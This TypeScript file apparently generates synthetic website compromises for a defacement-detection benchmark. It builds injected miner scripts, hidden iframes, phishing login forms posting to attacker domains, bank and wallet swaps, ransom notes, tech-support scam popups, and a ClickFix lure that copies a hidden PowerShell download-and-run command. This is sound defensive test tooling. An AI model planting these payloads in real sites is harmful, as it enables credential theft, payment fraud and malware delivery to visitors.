    `${page.site.brand}.${pick(rng, ["support", "billing", "office", "team"])}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "mail.ru", "gmx.net"])}`,
    `${local}.${page.site.brand}${digits(rng, 2)}@${pick(rng, ["gmail.com", "hotmail.com", "aol.com"])}`,
    `${pick(rng, ["accounts", "finance", "payments"])}@${randomDomain(rng)}`
  ])
  return splices(...replaceEverywhere(page, [[e, next]]))
})

// Payment-diversion fraud: bank details replaced in the same format (IBAN or national), or "our new bank details" added.
const bankSwap = defacement("bank account swapped", (page, rng) => {
  const b = page.ids.bank
  const fresh = makeBank(rng, page.site.locale) ?? { kind: "national", value: `Account ${digits(rng, 10)}` }
  if (b === null) {
    const line = fresh.kind === "iban" ? `IBAN ${fresh.value}` : fresh.value
    return addBesideContact(rng, page, `${esc(pick(rng, ["Our new bank details", "Please note our new bank details", page.site.words.bank]))}: ${line}`)
  }
  const next = fresh.kind === b.kind && fresh.value !== b.value ? fresh.value : b.value.replace(/\d(?=\D*$)/, (d) => String((Number(d) + 1) % 10))
  return splices(...replaceEverywhere(page, [[b.value, next]]))
})

// Payment-handle and social-account hijack reports: PayPal/Venmo/Cash App handles or social profiles pointed at the attacker.
const handleSwap = defacement("payment or social handle swapped", (page, rng) => {
  const fake = pick(rng, [`${page.site.brand}${pick(rng, ["_pay", "-payments", "Official", "Support", "HQ2"])}`, `${pick(rng, ["donate", "help", "fund"])}${alnum(rng, 5)}`])
  const pay = page.ids.pay
  if (pay !== null && chance(rng, 0.7)) {
    const next = makePay(rng, page.site, fake)
    const pairs: Array<readonly [string, string]> = [[pay.shown, next.shown]]
    if (pay.href !== null && next.href !== null) pairs.push([pay.href, next.href])
    return splices(...replaceEverywhere(page, pairs))
  }
  const socials = sample(rng, page.ids.social.filter((s) => s.href !== null), between(rng, 1, 2))
  return splices(...replaceEverywhere(page, socials.map((s) => [s.href!, s.href!.replace(/[^/]+\/?$/, (m) => fake + (m.endsWith("/") ? "/" : ""))] as const)))
})

// Cryptojacking reports (Coinhive era and after): an in-browser miner script started on every visit.
const miner = defacement("cryptojacking miner", (page, rng) => {
  const host = randomDomain(rng)
  const key = alnum(rng, 32)
  const lib = pick(rng, ["coinhive.min.js", "cryptonight.js", "miner.js", "webmr.js", "deepMiner.js", "m.js", "cryptoloot.js", "worker.js"])
  const api = pick(rng, ["CoinHive.Anonymous", "CRLT.Anonymous", "deepMiner.Anonymous", "Client.Anonymous", "CoinImp.Anonymous"])
  const payload = pick(rng, [
    `${scriptTag(rng, `https://${host}/lib/${lib}`)}<script>var miner=new ${api}("${key}",{throttle:${pick(rng, ["0.1", "0.3", "0.5", "0"])}});miner.start();</script>`,
    `<script>var w=new Worker(URL.createObjectURL(new Blob(["importScripts('https://${host}/${lib}')"])));w.postMessage({pool:"wss://${host}:${pick(rng, [443, 8080, 3333])}",user:"4${base58(rng, 40)}",threads:navigator.hardwareConcurrency})</script>`,
    `<script>WebAssembly.instantiateStreaming(fetch("https://${host}/cn.wasm")).then(function(m){m.instance.exports.start("${key}")})</script>`,
    `<script src="https://${host}/${lib}?site=${alnum(rng, 8)}" data-key="${key}" data-autostart="true"></script>`
  ])
  return splices(insert(scriptSpot(rng, page), payload))
})

// Iframe-injection campaigns: a script that writes or creates an invisible iframe at run time.
const scriptedIframe = defacement("iframe injected by script", (page, rng) => {
  const src = `https://${randomDomain(rng)}/${pick(rng, ["", "tds/", "in/"])}${alnum(rng, 6)}${pick(rng, [".php", ".html", ""])}`
  const tag = `<iframe src="${src}" width="${pick(rng, ["0", "1", "2"])}" height="${pick(rng, ["0", "1"])}" frameborder="0" style="position:absolute;left:-${between(rng, 500, 9999)}px"></iframe>`
  const body = pick(rng, [
    `document.write('${tag}')`,
    `document.write(unescape("${encodeURIComponent(tag)}"))`,
    `var f=document.createElement("iframe");f.src=${jsUrl(rng, src)};f.width=1;f.height=1;f.style.visibility="hidden";document.body.appendChild(f)`,
    `document.body.insertAdjacentHTML("beforeend",atob("${b64(tag)}"))`
  ])
  return splices(insert(pick(rng, [page.spots.bodyClose, top(page), anySlot(rng, page.spots)]), `<script>${body}</script>`))
})

// Defacements that cover the viewport with a fixed box announcing the compromise (worded without "hacked by").
const overlay = defacement("compromise overlay covering the viewport", (page, rng) => {
  const who = nick(rng)
  const msg = pick(rng, [() => boast(rng), () => political(rng)])()
  const box = pick(rng, [
    "position:fixed;top:0;left:0;width:100%;height:100%", "position:fixed;inset:0", "position:fixed;top:0;left:0;width:100vw;height:100vh",
    "position:absolute;top:0;left:0;width:100%;min-height:3000px", "position:fixed;top:0;right:0;bottom:0;left:0"
  ])
  const css = `${box};z-index:${pick(rng, ["9999", "99999", "2147483647", "100000"])};background:${pick(rng, [...colours, "rgba(0,0,0,.95)", "#b00"])};color:${pick(rng, inks)};text-align:center;padding-top:${between(rng, 5, 30)}vh`
  const inner = `<h1>${esc(msg.text)}</h1>${chance(rng, 0.6) ? `<p>${esc(pick(rng, [team(rng), who, greetz(rng)]))}</p>` : ""}${chance(rng, 0.3) ? `<img src="https://${randomDomain(rng)}/${alnum(rng, 5)}.gif">` : ""}`
  const cls = pick(rng, ["x", "ov", "owned", "msg", alnum(rng, 6)])
  const html = chance(rng, 0.7)
    ? `<div style="${css}">${inner}</div>`
    : `${style(rng, `.${cls}{${css}}`)}<div class="${cls}">${inner}</div>`
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose]), html))
})

/** Replacement text of about `n` characters in one language. */
const prose = (n: number, gen: () => string): string => {
  let s = gen()
  while (s.length < n * 0.8) s += " " + gen()
  return s
}

// Defacements that rewrite the visible copy in place: several paragraphs replaced, every tag and count unchanged.
const paragraphsRewritten = defacement("visible paragraphs rewritten, tag counts kept", (page, rng) => {
  const runs = textRuns(page, 30).filter((t) => {
    const p = t.parent === -1 ? "" : page.spots.elements[t.parent]!.name
    return ["p", "li", "td", "h1", "h2", "h3", "div", "span", "a", "strong", "em", "dd", "blockquote"].includes(p)
  })
  const pool = runs.length > 0 ? runs : textRuns(page, 5)
  const k = Math.min(pool.length, between(rng, 3, 6))
  const who = nick(rng)
  const gen = pick(rng, [() => boast(rng).text, () => political(rng).text, () => `${signature(rng, who).text}. ${boast(rng).text}`])
  const chosen = chance(rng, 0.5) ? pool.slice(0, k) : sample(rng, pool, k).sort((a, b) => a.start - b.start)
  return splices(...chosen.map((t) => replace(trimmed(page, t), esc(prose(t.text.trim().length, gen)))))
})

// Link-hijack reports: links the page already had now lead to a new domain.
const linksRetargeted = defacement("existing links retargeted", (page, rng) => {
  const ls = attrTargets(page, links(page), "href")
  const host = domain(rng, page)
  const mode = int(rng, 3)
  const chosen = mode === 0 ? sample(rng, ls, between(rng, 1, 3)) : mode === 1 ? ls.slice(0, Math.max(1, Math.ceil(ls.length / 5))) : ls
  return splices(...chosen.map((t) => {
    const old = page.html.slice(t.value.start, t.value.end)
    return replace(t.value, chance(rng, 0.5) ? rehost(page, old, host) : `https://${host}/${pick(rng, ["", "?ref=" + alnum(rng, 5), "go/" + alnum(rng, 6)])}`)
  }))
})

// Credential-phishing injections: a "session expired, sign in again" login form posting to a new domain, or a login form's action hijacked.
const loginHijack = defacement("login form hijack", (page, rng) => {
  const url = `https://${domain(rng, page)}/${pick(rng, ["login.php", "auth", "signin/verify", "wp-login.php", "account/session"])}`
  const pw = page.spots.elements.filter((e) => e.name === "input" && !e.inert && (e.attribs.type ?? "").toLowerCase() === "password")
  const owner = pw.length === 0 ? undefined : forms(page).filter((f) => f.start < pw[0]!.start && f.closeTag !== null && f.closeTag.start > pw[0]!.start).pop()
  if (owner !== undefined && chance(rng, 0.6)) return splices(formActionTo(page, owner, url))
  const l = pick(rng, [
    ["Your session has expired", "Please sign in again to continue.", "E-mail", "Password", "Sign in"],
    ["Session expirée", "Veuillez vous reconnecter.", "E-mail", "Mot de passe", "Connexion"],
    ["Sitzung abgelaufen", "Bitte melden Sie sich erneut an.", "E-Mail", "Passwort", "Anmelden"],
    ["Sesión caducada", "Vuelva a iniciar sesión para continuar.", "Correo", "Contraseña", "Entrar"],
    ["Verify your account", `Sign in to ${page.site.brand} to keep using your account.`, "Username", "Password", "Continue"]
  ] as const)
  const form = `<form action="${url}" method="post"><h2>${l[0]}</h2><p>${esc(l[1])}</p><input name="${pick(rng, ["email", "user", "login", "username"])}" placeholder="${l[2]}"><input type="password" name="${pick(rng, ["password", "pass", "pwd"])}" placeholder="${l[3]}"><button>${l[4]}</button></form>`
  return splices(insert(anySlot(rng, page.spots), chance(rng, 0.5) ? `<div style="position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:9999"><div style="background:#fff;max-width:360px;margin:15vh auto;padding:24px">${form}</div></div>` : form))
})

// Base-tag hijack write-ups: a <base href> that makes every relative link and resource resolve on the attacker's host.
const baseHijack = defacement("base href hijack", (page, rng) => {
  const url = `https://${domain(rng, page)}/${pick(rng, ["", "static/", page.site.brand + "/"])}`
  const existing = page.spots.elements.find((e) => e.name === "base" && !e.inert && e.attribs.href !== undefined)
  const v = existing === undefined ? null : attrValue(page.html, existing, "href")
  if (v !== null) return splices(replace(v, url))
  const headOpen = page.spots.elements.find((e) => e.name === "head")
  return splices(insert(headOpen !== undefined && chance(rng, 0.6) ? headOpen.openEnd : head(page), pick(rng, [`<base href="${url}">`, `<base href='${url}' target="_self">`, `<base href=${url} />`])))
})

// Defacement and skimming reports: a stylesheet swapped to, or added from, a new domain (restyling or hiding the page).
const stylesheetFromNewDomain = defacement("stylesheet swapped or injected from a new domain", (page, rng) => {
  const host = domain(rng, page)
  const sheets = attrTargets(page, stylesheets(page), "href")
  if (sheets.length > 0 && chance(rng, 0.5)) {
    const t = pick(rng, sheets)
    return splices(replace(t.value, rehost(page, page.html.slice(t.value.start, t.value.end), host)))
  }
  const url = `https://${host}/${pick(rng, ["css", "static", "assets"])}/${pick(rng, ["style", "main", "theme", alnum(rng, 6)])}.css`
  return splices(insert(chance(rng, 0.7) ? head(page) : top(page), pick(rng, [`<link rel="stylesheet" href="${url}">`, `<link href="${url}" rel="stylesheet" type="text/css" />`, style(rng, `@import url("${url}");`)])))
})

// CSS-only defacements: a background image, `content:` text, or restyled body, with no new markup text.
const cssDefacement = defacement("CSS defacement (background image or content text)", (page, rng) => {
  const who = nick(rng)
  const msg = esc(anyMessage(rng, who)).replace(/"/g, "'")
  const img = `https://${randomDomain(rng)}/${alnum(rng, 6)}.${pick(rng, ["jpg", "png", "gif"])}`
  const rules = pick(rng, [
    `body{background:url(${img}) no-repeat center center fixed !important;background-size:cover !important}`,
    `body::before{content:"${msg}";display:block;font-size:${between(rng, 24, 72)}px;color:${pick(rng, inks)};background:${pick(rng, colours)};text-align:center;padding:40px}`,
    `body>*{display:none!important}body::after{content:"${msg}";font-size:48px;display:block;text-align:center}`,
    `html{filter:invert(1) hue-rotate(180deg)}body::before{content:"${msg}";position:fixed;top:40%;left:0;right:0;font-size:40px;z-index:9999}`,
    `h1,h2,h3{font-size:0!important}h1::after,h2::after{content:"${msg}";font-size:32px;color:red}`
  ])
  if (chance(rng, 0.3)) {
    const body = page.spots.elements.find((e) => e.name === "body")
    if (body !== undefined && attrValue(page.html, body, "style") === null) return splices(insert(attrInsertAt(body), ` style="background-image:url(${img});background-size:cover"`))
  }
  return splices(insert(chance(rng, 0.8) ? head(page) : top(page), style(rng, rules)))
})

const metaContent = (page: Page, key: string) =>
  page.spots.elements.filter((e) => e.name === "meta" && !e.inert && (e.attribs.name ?? e.attribs.property ?? "").toLowerCase() === key)

// Defacement and SEO-spam reports: title, meta description and social-card (og:/twitter:) tags rewritten.
const metaDefacement = defacement("title and meta/og tags defaced", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const text = esc(pick(rng, [boast(rng).text, political(rng).text, `${team(rng)} ${pick(rng, ["was here", "owns this site", "2026"])}`, jpPhrase(rng), `${who}: ${boast(rng).text}`]))
  const out: Array<Splice> = []
  const t = page.spots.title
  if (chance(rng, 0.7)) out.push(t === null ? insert(head(page), `<title>${text}</title>`) : replace(t, text))
  const keys = sample(rng, ["description", "og:title", "og:description", "og:image", "twitter:title", "twitter:description", "keywords"], between(rng, 1, 4))
  const missing: Array<string> = []
  for (const k of keys) {
    const value = k.endsWith("image") ? `https://${randomDomain(rng)}/${alnum(rng, 6)}.jpg` : text
    const found = attrTargets(page, metaContent(page, k), "content")
    if (found.length > 0) for (const f of found) out.push(replace(f.value, value))
    else missing.push(`<meta ${k.startsWith("og:") ? "property" : "name"}="${k}" content="${value}">`)
  }
  if (missing.length > 0 || out.length === 0) out.push(insert(head(page), missing.join("") || `<meta name="description" content="${text}">`))
  return { splices: out }
})

// Defacement write-ups: the site's favicon replaced with the defacer's icon.
const faviconSwap = defacement("favicon swapped", (page, rng) => {
  const src = pick(rng, [`https://${randomDomain(rng)}/${pick(rng, ["favicon.ico", "icon.png", alnum(rng, 5) + ".ico"])}`, `data:image/png;base64,${b64(alnum(rng, 60))}`])
  const icons = attrTargets(page, page.spots.elements.filter((e) => e.name === "link" && !e.inert && rels(e).some((r) => r === "icon" || r === "apple-touch-icon")), "href")
  if (icons.length > 0 && chance(rng, 0.7)) return splices(...icons.map((i) => replace(i.value, src)))
  return splices(insert(head(page), pick(rng, [`<link rel="icon" href="${src}">`, `<link rel="shortcut icon" type="image/x-icon" href="${src}">`])))
})

// Old-school defacement pages (Zone-H mirrors): scrolling marquee or blinking messages.
const marquee = defacement("marquee or blink message", (page, rng) => {
  const who = nick(rng)
  const msg = esc(pick(rng, [anyMessage(rng, who), greetz(rng), `${team(rng)} — ${boast(rng).text}`]))
  const el = pick(rng, [
    `<marquee behavior="${pick(rng, ["scroll", "alternate"])}" scrollamount="${between(rng, 3, 15)}"><font color="${pick(rng, inks)}" size="${between(rng, 3, 7)}">${msg}</font></marquee>`,
    `<marquee direction="${pick(rng, ["left", "right", "up"])}">${msg}</marquee>`,
    `<blink><b>${msg}</b></blink>`,
    `${style(rng, `@keyframes b${who.length}{50%{opacity:0}}.bl{animation:b${who.length} 1s step-end infinite}`)}<div class="bl">${msg}</div>`
  ])
  return splices(insert(pick(rng, [top(page), anySlot(rng, page.spots), page.spots.bodyClose]), el))
})

// Defacement write-ups where the defacer uploads their image to the site itself, or inlines it as a data URI.
const imagesReplacedLocally = defacement("images replaced (same-site upload or data URI)", (page, rng) => {
  const who = nick(rng).replace(/[^A-Za-z0-9]/g, "").toLowerCase() || "x"
  const src = () => pick(rng, [
    `/wp-content/uploads/${2026}/${between(rng, 1, 12).toString().padStart(2, "0")}/${who}.${pick(rng, ["jpg", "png", "gif"])}`,
    `/images/${alnum(rng, 6)}.png`, `/uploads/${who}${int(rng, 99)}.jpg`, `/tmp/${alnum(rng, 4)}.gif`,
    `data:image/gif;base64,${b64(alnum(rng, between(rng, 40, 200)))}`
  ])
  const imgs = images(page)
  if (imgs.length === 0) return splices(insert(top(page), `<img src="${src()}" width="${between(rng, 200, 800)}">`))
  const chosen = chance(rng, 0.5) ? sample(rng, imgs, between(rng, 1, 3)) : imgs.slice(0, between(rng, 1, 6))
  return splices(...chosen.map((t) => replace(t.value, src())))
})

// Website-ransomware notes (e.g. WordPress "site encrypted" and database-wipe ransom campaigns).
const ransomNote = defacement("ransom note", (page, rng) => {
  const wallet = makeWallet(rng, pick(rng, ["BTC", "BTC", "XMR"] as const))
  const amount = pick(rng, ["0.05", "0.1", "0.2", "0.5", "1"])
  const hours = pick(rng, ["24", "48", "72"])
  const contact = `${alnum(rng, 8)}@${pick(rng, ["proton.me", "tutanota.com", "onionmail.org", "cock.li"])}`
  const text = pick(rng, [
    `All files and the database of this website have been encrypted. To restore them, send ${amount} ${wallet.coin} to ${wallet.address} within ${hours} hours and e-mail ${contact} with your domain name. After that, your data will be deleted forever.`,
    `Your database was downloaded and is now stored on our servers. Pay ${amount} BTC to ${wallet.address} to get it back. Contact: ${contact}. Deadline: ${hours}h.`,
    `Site Encrypted. ${pick(rng, ["Your site has been locked.", "Ваш сайт зашифрован.", "Su sitio ha sido cifrado."])} ${amount} ${wallet.coin}: ${wallet.address} — ${contact}`
  ])
  const el = pick(rng, [`<pre>${text}</pre>`, `<div style="border:3px solid red;padding:20px;font-size:18px"><h1>${pick(rng, ["Site Encrypted", "WARNING", "YOUR FILES ARE ENCRYPTED", "Database backup"])}</h1><p>${text}</p></div>`, `<h2>${text}</h2>`])
  if (chance(rng, 0.3)) return splices(replace({ start: page.spots.bodyOpenEnd, end: page.spots.bodyClose }, el))
  return splices(insert(chance(rng, 0.7) ? top(page) : anySlot(rng, page.spots), el))
}, true)

// Fake-update campaigns (SocGholish, FakeUpdates, ClearFake, ClickFix): a browser-update or "verify you are human" lure.
const fakeUpdate = defacement("fake browser update lure", (page, rng) => {
  const host = domain(rng, page)
  const browser = pick(rng, ["Chrome", "Firefox", "Edge", "Safari", "Opera"])
  const file = `https://${host}/${pick(rng, ["update", "download", "dl"])}/${pick(rng, [`${browser}.Update`, `${browser}Setup`, "Update", alnum(rng, 6)])}.${pick(rng, ["zip", "js", "exe", "msix", "apk"])}`
  const lure = pick(rng, [
    `<h1>${pick(rng, [`Your ${browser} browser is out of date`, `${browser} update required`, `Critical ${browser} security update`, `Votre navigateur ${browser} n'est pas à jour`, `Ihr ${browser}-Browser ist veraltet`])}</h1><p>${pick(rng, ["This page cannot be displayed with your current version.", "An update is needed to view this page safely.", "Please update to continue."])}</p><a href="${file}" style="background:#1a73e8;color:#fff;padding:12px 24px">${pick(rng, ["Update " + browser, "Download update", "Update now", "Install"])}</a>`,
    `<h2>${pick(rng, ["Verify you are human", "Confirm you are not a robot"])}</h2><p>${pick(rng, ["Press Win+R, paste the code with Ctrl+V and press Enter to complete verification.", "To continue, open the Run dialog (Win+R) and paste the verification command."])}</p><button onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr ${file} | iex')">${pick(rng, ["I'm not a robot", "Verify"])}</button>`
  ])
  const box = `<div style="position:fixed;${pick(rng, ["inset:0", "top:0;left:0;width:100%;height:100%"])};background:${pick(rng, ["#fff", "#f1f3f4", "rgba(255,255,255,.97)"])};z-index:${pick(rng, ["99999", "2147483647"])};text-align:center;padding-top:15vh">${lure}</div>`
  const loader = chance(rng, 0.5) ? scriptTag(rng, `https://${host}${scriptPath(rng)}`) : ""
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose]), box), ...(loader === "" ? [] : [insert(head(page), loader)]))
})

// Tech-support-scam pages: a fake security alert with a toll-free number, sometimes with sound and dialog loops.
const techSupportScam = defacement("tech-support scam popup", (page, rng) => {
  const number = pick(rng, [`+1-8${pick(rng, ["00", "33", "44", "55", "66", "77", "88"])}-${digits(rng, 3)}-${digits(rng, 4)}`, `+1 (8${pick(rng, ["00", "44", "88"])}) ${digits(rng, 3)}-${digits(rng, 4)}`, `0800 ${digits(rng, 3)} ${digits(rng, 4)}`, `1-8${pick(rng, ["00", "66"])}-${digits(rng, 3)}-${digits(rng, 4)}`])
  const brand = pick(rng, ["Windows Defender", "Microsoft Security", "Apple Support", "Windows Security Center", "McAfee", "Norton"])
  const msg = pick(rng, [
    `${brand} Alert: your computer is infected with Trojan Spyware. Your personal data and passwords are at risk. Call ${brand} Support immediately at ${number}.`,
    `Access to this PC has been blocked for security reasons. Error # ${pick(rng, ["DW6VB36", "0x80070424", "268D3"])}. Please call technical support: ${number} (toll free).`,
    `Do not restart your computer. Suspicious activity detected. Contact support at ${number} to unlock.`
  ])
  const extra = pick(rng, [`<audio autoplay loop src="https://${randomDomain(rng)}/alert.mp3"></audio>`, `<script>setTimeout(function(){alert(${JSON.stringify(msg)})},${between(rng, 100, 3000)})</script>`, `<script>window.onbeforeunload=function(){return "${esc(msg.slice(0, 40))}"}</script>`, ""])
  const box = `<div style="position:fixed;${pick(rng, ["top:0;left:0;width:100%;height:100%", "inset:0", "top:20%;left:20%;width:60%"])};background:${pick(rng, ["#0078d7", "#fff", "#c00"])};color:${pick(rng, ["#fff", "#000"])};z-index:99999;padding:30px"><h2>${esc(brand)}</h2><p>${esc(msg)}</p><p><b>${number}</b></p></div>`
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose, anySlot(rng, page.spots)]), box + extra))
})

/** Every defacement class, in a fixed order (the first twelve are the previous bench's). */
export const defacements: ReadonlyArray<ChangeClass> = [
  fullReplacement, titleSignature, h1Signature, bodySignature, externalScript, hiddenIframe, hiddenSpamLinks, swappedImage,
  metaRefresh, scriptRedirect, cssHiding, phoneOrBank,
  massIndex, signatureBanner, hacktivist, notifyMark, lookalikeSkimmer, inlineSkimmer, fakePaymentForm, formActionSwap,
  scriptSrcSwap, cloakedText, doorwayBlock, japaneseHack, conditionalRedirect, walletSwap, drainer, nationalPhoneSwap,
  emailSwap, bankSwap, handleSwap, miner, scriptedIframe, overlay, paragraphsRewritten, linksRetargeted, loginHijack,
  baseHijack, stylesheetFromNewDomain, cssDefacement, metaDefacement, faviconSwap, marquee, imagesReplacedLocally,
  ransomNote, fakeUpdate, techSupportScam
]
